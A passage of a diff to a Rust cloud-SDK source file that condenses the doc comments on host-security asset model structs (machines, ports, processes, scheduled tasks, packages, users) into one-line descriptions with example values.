-    /// `UpdateTime`: a string.
-    ///
-    /// Example: `"2011-11-11 12:12:12"`
+    /// `UpdateTime`; example: `"2011-11-11 12:12:12"`
     pub update_time: String,
 }
 
@@ -959,24 +627,16 @@ pub struct AssetJarDetail {
 /// Returned in the output of [`DescribeAssetAppCount`](super::DescribeAssetAppCount), [`DescribeAssetDatabaseCount`](super::DescribeAssetDatabaseCount), [`DescribeAssetHostTotalCount`](super::DescribeAssetHostTotalCount), [`DescribeAssetMachineTagTop`](super::DescribeAssetMachineTagTop), [`DescribeAssetPortCount`](super::DescribeAssetPortCount), [`DescribeAssetProcessCount`](super::DescribeAssetProcessCount) and 8 more.
 #[tc_model]
 pub struct AssetKeyVal {
-    /// `Key`: a string.
-    ///
-    /// Example: `"app"`
+    /// `Key`; example: `"app"`
     pub key: String,
 
-    /// `Value`: a signed 64-bit integer.
-    ///
-    /// Example: `21`
+    /// `Value`; example: `21`
     pub value: i64,
 
-    /// `Desc`: a string.
-    ///
-    /// Example: `"none"`
+    /// `Desc`; example: `"none"`
     pub desc: String,
 
-    /// `NewCount`: a signed 64-bit integer.
-    ///
-    /// Example: `10`
+    /// `NewCount`; example: `10`
     pub new_count: i64,
 }
 
@@ -985,29 +645,19 @@ pub struct AssetKeyVal {
 /// Returned in the output of [`DescribeAssetLoadInfo`](super::DescribeAssetLoadInfo).
 #[tc_model]
 pub struct AssetLoadDetail {
-    /// `MachineName`: a string.
-    ///
-    /// Example: `"主机性能"`
+    /// `MachineName`; example: `"主机性能"`
     pub machine_name: String,
 
-    /// `Desc`: a string.
-    ///
-    /// Example: `"4G"`
+    /// `Desc`; example: `"4G"`
     pub desc: String,
 
-    /// `Value`: a floating-point number.
-    ///
-    /// Example: `0.4`
+    /// `Value`; example: `0.4`
     pub value: f64,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"d99a1b46-cc2d-4633-a11f-4a7663d2523e"`
+    /// `Quuid`; example: `"d99a1b46-cc2d-4633-a11f-4a7663d2523e"`
     pub quuid: String,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"d99a1b46-cc2d-4633-a11f-4a7663d2523e"`
+    /// `Uuid`; example: `"d99a1b46-cc2d-4633-a11f-4a7663d2523e"`
     pub uuid: String,
 }
 
@@ -1016,12 +666,10 @@ pub struct AssetLoadDetail {
 /// Returned in the output of [`DescribeAssetLoadInfo`](super::DescribeAssetLoadInfo).
 #[tc_model]
 pub struct AssetLoadSummary {
-    /// `Counts`: a list of unsigned 64-bit integers.
-    ///
-    /// Example: `[0,1,1,2,3,1]`
+    /// `Counts`; example: `[0,1,1,2,3,1]`
     pub counts: Vec<u64>,
 
-    /// `Top5`: a list of [`AssetLoadDetail`] objects.
+    /// `Top5`
     pub top5: Vec<AssetLoadDetail>,
 }
 
@@ -1030,107 +678,67 @@ pub struct AssetLoadSummary {
 /// Returned in the output of [`DescribeAssetMachineList`](super::DescribeAssetMachineList).
 #[tc_model]
 pub struct AssetMachineBaseInfo {
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Quuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub quuid: String,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Uuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub uuid: String,
 
-    /// `MachineIp`: a string.
-    ///
-    /// Example: `"10.0.0.11"`
+    /// `MachineIp`; example: `"10.0.0.11"`
     pub machine_ip: String,
 
-    /// `MachineName`: a string.
-    ///
-    /// Example: `"test-machine"`
+    /// `MachineName`; example: `"test-machine"`
     pub machine_name: String,
 
-    /// `OsInfo`: a string.
-    ///
-    /// Example: `"windows"`
+    /// `OsInfo`; example: `"windows"`
     pub os_info: String,
 
-    /// `Cpu`: a string.
-    ///
-    /// Example: `"Intel(R) Xeon(R) Gold 6148 CPU @ 2.40GHz"`
+    /// `Cpu`; example: `"Intel(R) Xeon(R) Gold 6148 CPU @ 2.40GHz"`
     pub cpu: String,
 
-    /// `MemSize`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1024`
+    /// `MemSize`; example: `1024`
     pub mem_size: u64,
 
-    /// `MemLoad`: a string.
-    ///
-    /// Example: `"22.5"`
+    /// `MemLoad`; example: `"22.5"`
     pub mem_load: String,
 
-    /// `DiskSize`: an unsigned 64-bit integer.
-    ///
-    /// Example: `100`
+    /// `DiskSize`; example: `100`
     pub disk_size: u64,
 
-    /// `DiskLoad`: a string.
-    ///
-    /// Example: `"22.4"`
+    /// `DiskLoad`; example: `"22.4"`
     pub disk_load: String,
 
-    /// `PartitionCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `PartitionCount`; example: `1`
     pub partition_count: u64,
 
-    /// `MachineWanIp`: a string.
-    ///
-    /// Example: `"111.22.666.11"`
+    /// `MachineWanIp`; example: `"111.22.666.11"`
     pub machine_wan_ip: String,
 
-    /// `ProjectId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `ProjectId`; example: `1`
     pub project_id: u64,
 
-    /// `CpuSize`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `CpuSize`; example: `1`
     pub cpu_size: u64,
 
-    /// `CpuLoad`: a string.
-    ///
-    /// Example: `"54.2"`
+    /// `CpuLoad`; example: `"54.2"`
     pub cpu_load: String,
 
-    /// `Tag`: a list of [`MachineTag`] objects.
-    ///
-    /// Example: `[{"Name":"tag-01","Rid":0,"TagId":1}]`
+    /// `Tag`; example: `[{"Name":"tag-01","Rid":0,"TagId":1}]`
     pub tag: Vec<MachineTag>,
 
-    /// `UpdateTime`: a string.
-    ///
-    /// Example: `"2011-11-11 12:12:12"`
+    /// `UpdateTime`; example: `"2011-11-11 12:12:12"`
     pub update_time: String,
 
-    /// `IsNew`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `IsNew`; example: `1`
     pub is_new: i64,
 
-    /// `FirstTime`: a string.
-    ///
-    /// Example: `"2022-07-15 11:27:01"`
+    /// `FirstTime`; example: `"2022-07-15 11:27:01"`
     pub first_time: String,
 
-    /// `MachineExtraInfo`: a [`MachineExtraInfo`].
+    /// `MachineExtraInfo`
     pub machine_extra_info: Option<MachineExtraInfo>,
 
-    /// `CpuLoadNum`: a string.
-    ///
-    /// Example: `"0"`
+    /// `CpuLoadNum`; example: `"0"`
     pub cpu_load_num: Option<String>,
 }
 
@@ -1139,188 +747,118 @@ pub struct AssetMachineBaseInfo {
 /// Returned in the output of [`DescribeAssetMachineDetail`](super::DescribeAssetMachineDetail).
 #[tc_model]
 pub struct AssetMachineDetail {
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Quuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub quuid: String,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Uuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub uuid: String,
 
-    /// `MachineIp`: a string.
-    ///
-    /// Example: `"11.22.33.44"`
+    /// `MachineIp`; example: `"11.22.33.44"`
     pub machine_ip: String,
 
-    /// `MachineName`: a string.
-    ///
-    /// Example: `"txbj-k8s-main-10.65.1****"`
+    /// `MachineName`; example: `"txbj-k8s-main-10.65.1****"`
     pub machine_name: String,
 
-    /// `OsInfo`: a string.
-    ///
-    /// Example: `"centos"`
+    /// `OsInfo`; example: `"centos"`
     pub os_info: String,
 
-    /// `Cpu`: a string.
-    ///
-    /// Example: `"Intel(R) Xeon(R) Platinum 8255C CPU @ 2.5****"`
+    /// `Cpu`; example: `"Intel(R) Xeon(R) Platinum 8255C CPU @ 2.5****"`
     pub cpu: String,
 
-    /// `MemSize`: an unsigned 64-bit integer.
-    ///
-    /// Example: `11`
+    /// `MemSize`; example: `11`
     pub mem_size: u64,
 
-    /// `MemLoad`: a string.
-    ///
-    /// Example: `"11"`
+    /// `MemLoad`; example: `"11"`
     pub mem_load: String,
 
-    /// `DiskSize`: an unsigned 64-bit integer.
-    ///
-    /// Example: `11`
+    /// `DiskSize`; example: `11`
     pub disk_size: u64,
 
-    /// `DiskLoad`: a string.
-    ///
-    /// Example: `"11"`
+    /// `DiskLoad`; example: `"11"`
     pub disk_load: String,
 
-    /// `PartitionCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `PartitionCount`; example: `1`
     pub partition_count: u64,
 
-    /// `MachineWanIp`: a string.
-    ///
-    /// Example: `"1.2.3.4"`
+    /// `MachineWanIp`; example: `"1.2.3.4"`
     pub machine_wan_ip: String,
 
-    /// `CpuSize`: an unsigned 64-bit integer.
-    ///
-    /// Example: `2`
+    /// `CpuSize`; example: `2`
     pub cpu_size: u64,
 
-    /// `CpuLoad`: a string.
-    ///
-    /// Example: `"中"`
+    /// `CpuLoad`; example: `"中"`
     pub cpu_load: String,
 
-    /// `ProtectLevel`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `ProtectLevel`; example: `1`
     pub protect_level: u64,
 
-    /// `RiskStatus`: a string.
-    ///
-    /// Example: `"RISK"`
+    /// `RiskStatus`; example: `"RISK"`
     pub risk_status: String,
 
-    /// `ProtectDays`: an unsigned 64-bit integer.
-    ///
-    /// Example: `11`
+    /// `ProtectDays`; example: `11`
     pub protect_days: u64,
 
-    /// `BuyTime`: a string.
-    ///
-    /// Example: `"2021-12-21"`
+    /// `BuyTime`; example: `"2021-12-21"`
     pub buy_time: String,
 
-    /// `EndTime`: a string.
-    ///
-    /// Example: `"2021-12-21"`
+    /// `EndTime`; example: `"2021-12-21"`
     pub end_time: String,
 
-    /// `CoreVersion`: a string.
-    ///
-    /// Example: `"3.10.0-1160.99.1.el7.x8****"`
+    /// `CoreVersion`; example: `"3.10.0-1160.99.1.el7.x8****"`
     pub core_version: String,
 
-    /// `OsType`: a string.
-    ///
-    /// Example: `"Linux"`
+    /// `OsType`; example: `"Linux"`
     pub os_type: String,
 
-    /// `AgentVersion`: a string.
-    ///
-    /// Example: `"1.2.3.1"`
+    /// `AgentVersion`; example: `"1.2.3.1"`
     pub agent_version: String,
 
-    /// `InstallTime`: a string.
-    ///
-    /// Example: `"2021-12-21"`
+    /// `InstallTime`; example: `"2021-12-21"`
     pub install_time: String,
 
-    /// `BootTime`: a string.
-    ///
-    /// Example: `"2021-12-21"`
+    /// `BootTime`; example: `"2021-12-21"`
     pub boot_time: String,
 
-    /// `LastLiveTime`: a string.
-    ///
-    /// Example: `"2021-12-21"`
+    /// `LastLiveTime`; example: `"2021-12-21"`
     pub last_live_time: String,
 
-    /// `Producer`: a string.
-    ///
-    /// Example: `"Tencent C****"`
+    /// `Producer`; example: `"Tencent C****"`
     pub producer: String,
 
-    /// `SerialNumber`: a string.
-    ///
-    /// Example: `"641eb296-411e-45b5-8003-903d4f4a****"`
+    /// `SerialNumber`; example: `"641eb296-411e-45b5-8003-903d4f4a****"`
     pub serial_number: String,
 
-    /// `NetCards`: a list of [`AssetNetworkCardInfo`] objects.
+    /// `NetCards`
     pub net_cards: Vec<AssetNetworkCardInfo>,
 
-    /// `Disks`: a list of [`AssetDiskPartitionInfo`] objects.
+    /// `Disks`
     pub disks: Vec<AssetDiskPartitionInfo>,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Status`; example: `1`
     pub status: u64,
 
-    /// `ProjectId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1241252`
+    /// `ProjectId`; example: `1241252`
     pub project_id: u64,
 
-    /// `DeviceVersion`: a string.
-    ///
-    /// Example: `"CVM"`
+    /// `DeviceVersion`; example: `"CVM"`
     pub device_version: String,
 
-    /// `OfflineTime`: a string.
-    ///
-    /// Example: `"2021-12-21"`
+    /// `OfflineTime`; example: `"2021-12-21"`
     pub offline_time: String,
 
-    /// `InstanceId`: a string.
-    ///
-    /// Example: `"cvm-112234"`
+    /// `InstanceId`; example: `"cvm-112234"`
     pub instance_id: String,
 
-    /// `UpdateTime`: a string.
-    ///
-    /// Example: `"2011-11-11 12:12:12"`
+    /// `UpdateTime`; example: `"2011-11-11 12:12:12"`
     pub update_time: String,
 
-    /// `MachineExtraInfo`: a [`MachineExtraInfo`].
+    /// `MachineExtraInfo`
     pub machine_extra_info: Option<MachineExtraInfo>,
 
-    /// `CpuLoadVul`: a string.
-    ///
-    /// Example: `"10.1"`
+    /// `CpuLoadVul`; example: `"10.1"`
     pub cpu_load_vul: String,
 
-    /// `FirstTime`: a string.
-    ///
-    /// Example: `"2023-11-27 23:2****"`
+    /// `FirstTime`; example: `"2023-11-27 23:2****"`
     pub first_time: String,
 }
 
@@ -1329,34 +867,22 @@ pub struct AssetMachineDetail {
 /// Returned in the output of [`DescribeAssetMachineDetail`](super::DescribeAssetMachineDetail).
 #[tc_model]
 pub struct AssetNetworkCardInfo {
-    /// `Name`: a string.
-    ///
-    /// Example: `"eth1"`
+    /// `Name`; example: `"eth1"`
     pub name: String,
 
-    /// `Ip`: a string.
-    ///
-    /// Example: `"172.17.0.1"`
+    /// `Ip`; example: `"172.17.0.1"`
     pub ip: String,
 
-    /// `GateWay`: a string.
-    ///
-    /// Example: `"10.0.0.1"`
+    /// `GateWay`; example: `"10.0.0.1"`
     pub gate_way: String,
 
-    /// `Mac`: a string.
-    ///
-    /// Example: `"16:75:bf:b8:73:9c"`
+    /// `Mac`; example: `"16:75:bf:b8:73:9c"`
     pub mac: String,
 
-    /// `Ipv6`: a string.
-    ///
-    /// Example: `"fe80::42:4dff:fe1b:ed6c"`
+    /// `Ipv6`; example: `"fe80::42:4dff:fe1b:ed6c"`
     pub ipv6: String,
 
-    /// `DnsServer`: a string.
-    ///
-    /// Example: `"8.8.8.8"`
+    /// `DnsServer`; example: `"8.8.8.8"`
     pub dns_server: String,
 }
 
@@ -1365,77 +891,49 @@ pub struct AssetNetworkCardInfo {
 /// Returned in the output of [`DescribeAssetPlanTaskList`](super::DescribeAssetPlanTaskList).
 #[tc_model]
 pub struct AssetPlanTask {
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Status`; example: `1`
     pub status: u64,
 
-    /// `Cycle`: a string.
-    ///
-    /// Example: `"10 * * * * *"`
+    /// `Cycle`; example: `"10 * * * * *"`
     pub cycle: String,
 
-    /// `Command`: a string.
-    ///
-    /// Example: `"/root/sshd"`
+    /// `Command`; example: `"/root/sshd"`
     pub command: String,
 
-    /// `User`: a string.
-    ///
-    /// Example: `"root"`
+    /// `User`; example: `"root"`
     pub user: String,
 
-    /// `ConfigPath`: a string.
-    ///
-    /// Example: `"/etc/sshd"`
+    /// `ConfigPath`; example: `"/etc/sshd"`
     pub config_path: String,
 
-    /// `MachineIp`: a string.
-    ///
-    /// Example: `"10.0.0.11"`
+    /// `MachineIp`; example: `"10.0.0.11"`
     pub machine_ip: String,
 
-    /// `MachineName`: a string.
-    ///
-    /// Example: `"test-ins"`
+    /// `MachineName`; example: `"test-ins"`
     pub machine_name: String,
 
-    /// `OsInfo`: a string.
-    ///
-    /// Example: `"centos 64bit"`
+    /// `OsInfo`; example: `"centos 64bit"`
     pub os_info: String,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Quuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub quuid: String,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Uuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub uuid: String,
 
-    /// `UpdateTime`: a string.
-    ///
-    /// Example: `"2011-11-11 12:12:12"`
+    /// `UpdateTime`; example: `"2011-11-11 12:12:12"`
     pub update_time: String,
 
-    /// `FirstTime`: a string.
-    ///
-    /// Example: `"2022-07-15 11:27:01"`
+    /// `FirstTime`; example: `"2022-07-15 11:27:01"`
     pub first_time: String,
 
-    /// `IsNew`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `IsNew`; example: `1`
     pub is_new: i64,
 
-    /// `MachineWanIp`: a string.
-    ///
-    /// Example: `"1.1.1.1"`
+    /// `MachineWanIp`; example: `"1.1.1.1"`
     pub machine_wan_ip: String,
 
-    /// `MachineExtraInfo`: a [`MachineExtraInfo`].
+    /// `MachineExtraInfo`
     pub machine_extra_info: MachineExtraInfo,
 }
 
@@ -1444,135 +942,85 @@ pub struct AssetPlanTask {
 /// Returned in the output of [`DescribeAssetPortInfoList`](super::DescribeAssetPortInfoList).
 #[tc_model]
 pub struct AssetPortBaseInfo {
-    /// `MachineIp`: a string.
-    ///
-    /// Example: `"10.33.0.155"`
+    /// `MachineIp`; example: `"10.33.0.155"`
     pub machine_ip: String,
 
-    /// `MachineWanIp`: a string.
-    ///
-    /// Example: `"112.44.64.99"`
+    /// `MachineWanIp`; example: `"112.44.64.99"`
     pub machine_wan_ip: String,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Quuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub quuid: String,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Uuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub uuid: String,
 
-    /// `OsInfo`: a string.
-    ///
-    /// Example: `"Centos 64Bit"`
+    /// `OsInfo`; example: `"Centos 64Bit"`
     pub os_info: String,
 
-    /// `ProjectId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `ProjectId`; example: `1`
     pub project_id: u64,
 
-    /// `Tag`: a list of [`MachineTag`] objects.
+    /// `Tag`
     pub tag: Vec<MachineTag>,
 
-    /// `ProcessName`: a string.
-    ///
-    /// Example: `"a.out"`
+    /// `ProcessName`; example: `"a.out"`
     pub process_name: String,
 
-    /// `ProcessVersion`: a string.
-    ///
-    /// Example: `"1.1.1"`
+    /// `ProcessVersion`; example: `"1.1.1"`
     pub process_version: String,
 
-    /// `ProcessPath`: a string.
-    ///
-    /// Example: `"/root"`
+    /// `ProcessPath`; example: `"/root"`
     pub process_path: String,
 
-    /// `Pid`: a string.
-    ///
-    /// Example: `"1024"`
+    /// `Pid`; example: `"1024"`
     pub pid: String,
 
-    /// `User`: a string.
-    ///
-    /// Example: `"root"`
+    /// `User`; example: `"root"`
     pub user: String,
 
-    /// `StartTime`: a string.
-    ///
-    /// Example: `"2024-10-23 14:12:54"`
+    /// `StartTime`; example: `"2024-10-23 14:12:54"`
     pub start_time: String,
 
-    /// `Param`: a string.
-    ///
-    /// Example: `"19"`
+    /// `Param`; example: `"19"`
     pub param: String,
 
-    /// `Teletype`: a string.
-    ///
-    /// Example: `"1"`
+    /// `Teletype`; example: `"1"`
     pub teletype: String,
 
-    /// `Port`: a string.
-    ///
-    /// Example: `"22"`
+    /// `Port`; example: `"22"`
     pub port: String,
 
-    /// `GroupName`: a string.
-    ///
-    /// Example: `"staffs"`
+    /// `GroupName`; example: `"staffs"`
     pub group_name: String,
 
-    /// `Md5`: a string.
-    ///
-    /// Example: `"c2caaa18e873ddae87c6167791ff97a8"`
+    /// `Md5`; example: `"c2caaa18e873ddae87c6167791ff97a8"`
     pub md5: String,
 
-    /// `Ppid`: a string.
-    ///
-    /// Example: `"1"`
+    /// `Ppid`; example: `"1"`
     pub ppid: String,
 
-    /// `ParentProcessName`: a string.
-    ///
-    /// Example: `"root"`
+    /// `ParentProcessName`; example: `"root"`
     pub parent_process_name: String,
 
-    /// `Proto`: a string.
-    ///
-    /// Example: `"1"`
+    /// `Proto`; example: `"1"`
     pub proto: String,
 
-    /// `BindIp`: a string.
-    ///
-    /// Example: `"1"`
+    /// `BindIp`; example: `"1"`
     pub bind_ip: String,
 
-    /// `MachineName`: a string.
-    ///
-    /// Example: `"1"`
+    /// `MachineName`; example: `"1"`
     pub machine_name: String,
 
-    /// `UpdateTime`: a string.
-    ///
-    /// Example: `"2011-11-11 12:12:12"`
+    /// `UpdateTime`; example: `"2011-11-11 12:12:12"`
     pub update_time: String,
 
-    /// `FirstTime`: a string.
-    ///
-    /// Example: `"2022-07-15 11:27:01"`
+    /// `FirstTime`; example: `"2022-07-15 11:27:01"`
     pub first_time: String,
 
-    /// `IsNew`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `IsNew`; example: `1`
     pub is_new: i64,
 
-    /// `MachineExtraInfo`: a [`MachineExtraInfo`].
+    /// `MachineExtraInfo`
     pub machine_extra_info: Option<MachineExtraInfo>,
 }
 
@@ -1581,147 +1029,91 @@ pub struct AssetPortBaseInfo {
 /// Returned in the output of [`DescribeAssetProcessInfoList`](super::DescribeAssetProcessInfoList).
 #[tc_model]
 pub struct AssetProcessBaseInfo {
-    /// `MachineIp`: a string.
-    ///
-    /// Example: `"10.0.0.11"`
+    /// `MachineIp`; example: `"10.0.0.11"`
     pub machine_ip: String,
 
-    /// `MachineWanIp`: a string.
-    ///
-    /// Example: `"112.42.66.11"`
+    /// `MachineWanIp`; example: `"112.42.66.11"`
     pub machine_wan_ip: String,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Quuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub quuid: String,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Uuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub uuid: String,
 
-    /// `OsInfo`: a string.
-    ///
-    /// Example: `"Centos 64bit"`
+    /// `OsInfo`; example: `"Centos 64bit"`
     pub os_info: String,
 
-    /// `ProjectId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `ProjectId`; example: `1`
     pub project_id: u64,
 
-    /// `Tag`: a list of [`MachineTag`] objects.
-    ///
-    /// Example: `[{"Name":"tag-01","Rid":0,"TagId":1}]`
+    /// `Tag`; example: `[{"Name":"tag-01","Rid":0,"TagId":1}]`
     pub tag: Vec<MachineTag>,
 
-    /// `Name`: a string.
-    ///
-    /// Example: `"root"`
+    /// `Name`; example: `"root"`
     pub name: String,
 
-    /// `Desc`: a string.
-    ///
-    /// Example: `"user test"`
+    /// `Desc`; example: `"user test"`
     pub desc: String,
 
-    /// `Path`: a string.
-    ///
-    /// Example: `"/root"`
+    /// `Path`; example: `"/root"`
     pub path: String,
 
-    /// `Pid`: a string.
-    ///
-    /// Example: `"10021"`
+    /// `Pid`; example: `"10021"`
     pub pid: String,
 
-    /// `User`: a string.
-    ///
-    /// Example: `"root"`
+    /// `User`; example: `"root"`
     pub user: String,
 
-    /// `StartTime`: a string.
-    ///
-    /// Example: `"2024-10-23 14:17:00"`
+    /// `StartTime`; example: `"2024-10-23 14:17:00"`
     pub start_time: String,
 
-    /// `Param`: a string.
-    ///
-    /// Example: `"[\"sh start.sh\"]"`
+    /// `Param`; example: `"[\"sh start.sh\"]"`
     pub param: String,
 
-    /// `Tty`: a string.
-    ///
-    /// Example: `"/bin/sh"`
+    /// `Tty`; example: `"/bin/sh"`
     pub tty: String,
 
-    /// `Version`: a string.
-    ///
-    /// Example: `"1"`
+    /// `Version`; example: `"1"`
     pub version: String,
 
-    /// `GroupName`: a string.
-    ///
-    /// Example: `"Staffs"`
+    /// `GroupName`; example: `"Staffs"`
     pub group_name: String,
 
-    /// `Md5`: a string.
-    ///
-    /// Example: `"1"`
+    /// `Md5`; example: `"1"`
     pub md5: String,
 
-    /// `Ppid`: a string.
-    ///
-    /// Example: `"1"`
+    /// `Ppid`; example: `"1"`
     pub ppid: String,
 
-    /// `ParentProcessName`: a string.
-    ///
-    /// Example: `"svchost****"`
+    /// `ParentProcessName`; example: `"svchost****"`
     pub parent_process_name: String,
 
-    /// `Status`: a string.
-    ///
-    /// Example: `"1"`
+    /// `Status`; example: `"1"`
     pub status: String,
 
-    /// `HasSign`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `HasSign`; example: `1`
     pub has_sign: u64,
 
-    /// `InstallByPackage`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `InstallByPackage`; example: `1`
     pub install_by_package: u64,
 
-    /// `PackageName`: a string.
-    ///
-    /// Example: `"1"`
+    /// `PackageName`; example: `"1"`
     pub package_name: String,
 
-    /// `MachineName`: a string.
-    ///
-    /// Example: `"1"`
+    /// `MachineName`; example: `"1"`
     pub machine_name: String,
 
-    /// `UpdateTime`: a string.
-    ///
-    /// Example: `"2011-11-11 12:12:12"`
+    /// `UpdateTime`; example: `"2011-11-11 12:12:12"`
     pub update_time: String,
 
-    /// `FirstTime`: a string.
-    ///
-    /// Example: `"2022-07-15 11:27:01"`
+    /// `FirstTime`; example: `"2022-07-15 11:27:01"`
     pub first_time: String,
 
-    /// `IsNew`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `IsNew`; example: `1`
     pub is_new: i64,
 
-    /// `MachineExtraInfo`: a [`MachineExtraInfo`].
+    /// `MachineExtraInfo`
     pub machine_extra_info: Option<MachineExtraInfo>,
 }
 
@@ -1730,72 +1122,46 @@ pub struct AssetProcessBaseInfo {
 /// Returned in the output of [`DescribeAssetSystemPackageList`](super::DescribeAssetSystemPackageList).
 #[tc_model]
 pub struct AssetSystemPackageInfo {
-    /// `Name`: a string.
-    ///
-    /// Example: `"core.fd"`
+    /// `Name`; example: `"core.fd"`
     pub name: String,
 
-    /// `Desc`: a string.
-    ///
-    /// Example: `"utils"`
+    /// `Desc`; example: `"utils"`
     pub desc: String,
 
-    /// `Version`: a string.
-    ///
-    /// Example: `"1.0.1"`
+    /// `Version`; example: `"1.0.1"`
     pub version: String,
 
-    /// `InstallTime`: a string.
-    ///
-    /// Example: `"2024-10-23 14:17:00"`
+    /// `InstallTime`; example: `"2024-10-23 14:17:00"`
     pub install_time: String,
 
-    /// `Type`: a string.
-    ///
-    /// Example: `"1"`
+    /// `Type`; example: `"1"`
     pub r#type: String,
 
-    /// `MachineName`: a string.
-    ///
-    /// Example: `"test-ins"`
+    /// `MachineName`; example: `"test-ins"`
     pub machine_name: String,
 
-    /// `MachineIp`: a string.
-    ///
-    /// Example: `"1.1.1.1"`
+    /// `MachineIp`; example: `"1.1.1.1"`
     pub machine_ip: String,
 
-    /// `OsInfo`: a string.
-    ///
-    /// Example: `"Centos"`
+    /// `OsInfo`; example: `"Centos"`
     pub os_info: String,
 
-    /// `UpdateTime`: a string.
-    ///
-    /// Example: `"2011-11-11 12:12:12"`
+    /// `UpdateTime`; example: `"2011-11-11 12:12:12"`
     pub update_time: String,
 
-    /// `FirstTime`: a string.
-    ///
-    /// Example: `"2022-07-15 11:27:01"`
+    /// `FirstTime`; example: `"2022-07-15 11:27:01"`
     pub first_time: String,
 
-    /// `IsNew`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `IsNew`; example: `1`
     pub is_new: i64,
 
-    /// `MachineExtraInfo`: a [`MachineExtraInfo`].
+    /// `MachineExtraInfo`
     pub machine_extra_info: MachineExtraInfo,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Quuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub quuid: String,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Uuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub uuid: String,
 }
 
@@ -1804,14 +1170,10 @@ pub struct AssetSystemPackageInfo {
 /// Returned in the output of [`DescribeAssetTypes`](super::DescribeAssetTypes).
 #[tc_model]
 pub struct AssetType {
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Id`; example: `1`
     pub id: u64,
 
-    /// `Name`: a string.
-    ///
-    /// Example: `"账号"`
+    /// `Name`; example: `"账号"`
     pub name: String,
 }
 
@@ -1820,147 +1182,91 @@ pub struct AssetType {
 /// Returned in the output of [`DescribeAssetUserList`](super::DescribeAssetUserList).
 #[tc_model]
 pub struct AssetUserBaseInfo {
-    /// `MachineIp`: a string.
-    ///
-    /// Example: `"10.0.0.11"`
+    /// `MachineIp`; example: `"10.0.0.11"`
     pub machine_ip: String,
 
-    /// `MachineWanIp`: a string.
-    ///
-    /// Example: `"112.65.22.19"`
+    /// `MachineWanIp`; example: `"112.65.22.19"`
     pub machine_wan_ip: String,
 
-    /// `MachineName`: a string.
-    ///
-    /// Example: `"test-ins"`
+    /// `MachineName`; example: `"test-ins"`
     pub machine_name: String,
 
-    /// `OsInfo`: a string.
-    ///
-    /// Example: `"Centos 64bit"`
+    /// `OsInfo`; example: `"Centos 64bit"`
     pub os_info: String,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Uuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub uuid: String,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Quuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub quuid: String,
 
-    /// `Uid`: a string.
-    ///
-    /// Example: `"1010192"`
+    /// `Uid`; example: `"1010192"`
     pub uid: String,
 
-    /// `Gid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
